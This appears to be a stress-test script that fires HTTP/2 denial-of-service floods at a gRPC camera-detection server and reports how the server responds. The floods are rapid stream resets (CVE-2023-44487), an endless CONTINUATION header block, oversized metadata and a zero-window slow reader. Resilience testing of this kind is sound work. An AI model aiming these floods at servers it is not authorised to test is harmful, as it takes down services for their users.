"""Clients that break HTTP/2's spirit, each a program of its own: flood.py KIND ADDR [OPTIONS].

Prints one JSON object: how the server took it.
"""

from __future__ import annotations

import argparse
import json
import socket
import time
from collections.abc import Iterator

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    RstStreamFrame,
    SettingsFrame,
)

from wire import DETECT_STREAM

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 8

# Frames written at a time: a flood gains nothing from larger writes, and learns sooner of its end.
PER_WRITE = 200

# What the server may need to answer once everything has been sent, in seconds.
ANSWER_SECONDS = 5.0


def headers_block(addr: str, metadata: int = 0, value_bytes: int = 0) -> bytes:
    """The header block of a camera's call, with that much metadata. Nothing enters the table."""
    pairs = [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", addr),
        (":path", DETECT_STREAM),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *((f"x-key-{n}", "v" * value_bytes) for n in range(metadata)),
    ]
    plain = [hpack.NeverIndexedHeaderTuple(name, value) for name, value in pairs]
    return hpack.Encoder().encode(plain, huffman=False)


def resets(addr: str, count: int) -> Iterator[bytes]:
    """CVE-2023-44487: streams that are opened and reset at once."""
    block = headers_block(addr)
    for number in range(count):
        stream = 2 * number + 1
        headers = HeadersFrame(stream, data=block, flags=["END_HEADERS"])
        yield headers.serialize() + RstStreamFrame(stream, error_code=CANCEL).serialize()


def continuations(addr: str, count: int, size: int) -> Iterator[bytes]:
    """RUSTSEC-2024-0332: a header block that never ends, in pieces of `size` bytes."""
    yield HeadersFrame(1, data=headers_block(addr)).serialize()
    # Literal header fields without indexing, cut into pieces of any size.
    pair = b"\x00\x03x-a\x10" + b"v" * 16
    text = pair * (count * max(size, 1) // len(pair) + 1)
    for number in range(count):
        yield ContinuationFrame(1, data=text[number * size : (number + 1) * size]).serialize()


def metadata(addr: str, keys: int, value_bytes: int) -> Iterator[bytes]:
    """One call with that much metadata, in order otherwise."""
    block = headers_block(addr, keys, value_bytes)
    parts = [block[at : at + 16384] for at in range(0, len(block), 16384)]
    first = HeadersFrame(1, data=parts[0], flags=["END_HEADERS"] if len(parts) == 1 else [])
    yield first.serialize()
    for number, part in enumerate(parts[1:], 2):
        flags = ["END_HEADERS"] if number == len(parts) else []
        yield ContinuationFrame(1, data=part, flags=flags).serialize()


class Connection:
    """A socket that notes what the server sends."""

    def __init__(self, addr: str) -> None:
        host, _, port = addr.rpartition(":")
        self.socket = socket.create_connection((host, int(port)), timeout=ANSWER_SECONDS)
        self.socket.sendall(PREFACE + SettingsFrame(0).serialize())
        self.goaway: int | None = None
        self.resets: list[int] = []
        self.statuses: list[str] = []
        self.closed = False
        self._buffer = b""
        self._decoder = hpack.Decoder()

    def write(self, data: bytes) -> None:
        """Writes, and reads what is there."""
        try:
            self.socket.sendall(data)
            self.read(0.0)
        except OSError:
            self.closed = True

    def read(self, seconds: float) -> None:
        """Reads for so long at most, or until the server has closed."""
        end = time.monotonic() + seconds
        while not self.closed:
            self.socket.settimeout(max(0.000_1, end - time.monotonic()))
            try:
                data = self.socket.recv(65536)
            except (TimeoutError, BlockingIOError):
                break
            except OSError:
                data = b""
            self.closed = not data
            self._take(data)
        self.socket.settimeout(ANSWER_SECONDS)

    def read_answer(self, seconds: float) -> None:
        """Reads until there is an answer of any kind, then for a moment longer."""
        end = time.monotonic() + seconds
        while not self.answered() and time.monotonic() < end:
            self.read(0.1)
        self.read(0.3)

    def answered(self) -> bool:
        """Whether the server has said or done anything."""
        return self.closed or self.goaway is not None or bool(self.resets or self.statuses)

    def _take(self, data: bytes) -> None:
        self._buffer += data
        while len(self._buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self._buffer[:9]))
            if len(self._buffer) < 9 + length:
                return
            frame.parse_body(memoryview(self._buffer[9 : 9 + length]))
            self._buffer = self._buffer[9 + length :]
            self._note(frame)

    def _note(self, frame: Frame) -> None:
        match frame:
            case GoAwayFrame():
                self.goaway = frame.error_code
            case RstStreamFrame():
                self.resets.append(frame.error_code)
            case HeadersFrame():
                fields = dict(self._decoder.decode(frame.data))
                self.statuses += [fields[name] for name in (":status",) if name in fields]
            case SettingsFrame() if "ACK" not in frame.flags:
                self.socket.sendall(SettingsFrame(0, flags=["ACK"]).serialize())


def attack(addr: str, frames: Iterator[bytes], args: argparse.Namespace) -> dict[str, object]:
    """Sends frames, so many at a time, until there are no more or the server has had enough."""
    connection = Connection(addr)
    sent = 0
    batch: list[bytes] = []
    for frame in frames:
        batch.append(frame)
        if len(batch) == args.per_write:
            connection.write(b"".join(batch))
            time.sleep(args.pause_ms / 1000)
            sent += len(batch)
            batch = []
        if connection.closed:
            break
    if not connection.closed:
        connection.write(b"".join(batch))
        sent += len(batch)
        connection.read_answer(ANSWER_SECONDS)
    return {
        "sent": sent,
        "goaway": connection.goaway,
        "closed": connection.closed,
        "resets": sorted(set(connection.resets)),
        "statuses": sorted(set(connection.statuses)),
    }


def slow_reader(addr: str, seconds: float, fps: float, file: str) -> dict[str, object]:
    """A camera that never lets the server send a byte of an answer, and keeps sending frames."""
    from pathlib import Path

    from client import prefixed, request
    from wire import Wire

    data = Path(file).read_bytes()
    frames = sent_bytes = 0
    with Wire(addr, window=0) as wire:
        stream = wire.open([("camera-id", "slow-reader")])
        start = time.monotonic()
        due = start
        while due < start + seconds and not wire.closed:
            message = prefixed(request(frames, data).SerializeToString())
            sent = wire.send(stream, message, seconds=start + seconds - time.monotonic())
            sent_bytes += sent
            if sent < len(message):
                break
            frames += 1
            due = max(due + 1 / fps, time.monotonic())
            wire.pump(due - time.monotonic())
        # Held back by the server's window, or sent everything: it stays to the end.
        wire.pump(start + seconds - time.monotonic())
        received = wire.streams[stream]
        return {
            "frames": frames,
            "sent_bytes": sent_bytes,
            "answer_bytes": len(received.data),
            "closed": wire.closed,
        }


def main() -> None:
    """The command line."""
    parser = argparse.ArgumentParser(prog="flood.py", description=(__doc__ or "").splitlines()[0])
    parser.add_argument("kind", choices=["reset", "continuation", "metadata", "slow-reader"])
    parser.add_argument("addr")
    parser.add_argument("--count", type=int, default=1)
    parser.add_argument("--size", type=int, default=0)
    parser.add_argument("--per-write", type=int, default=PER_WRITE)
    parser.add_argument("--pause-ms", type=float, default=0.0)
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--fps", type=float, default=10.0)
    parser.add_argument("--file", default="")
    args = parser.parse_args()
    match args.kind:
        case "reset":
            found = attack(args.addr, resets(args.addr, args.count), args)
        case "continuation":
            found = attack(args.addr, continuations(args.addr, args.count, args.size), args)
        case "metadata":
            found = attack(args.addr, metadata(args.addr, args.count, args.size), args)
        case _:
            found = slow_reader(args.addr, args.seconds, args.fps, args.file)
    print(json.dumps(found))


if __name__ == "__main__":
    main()
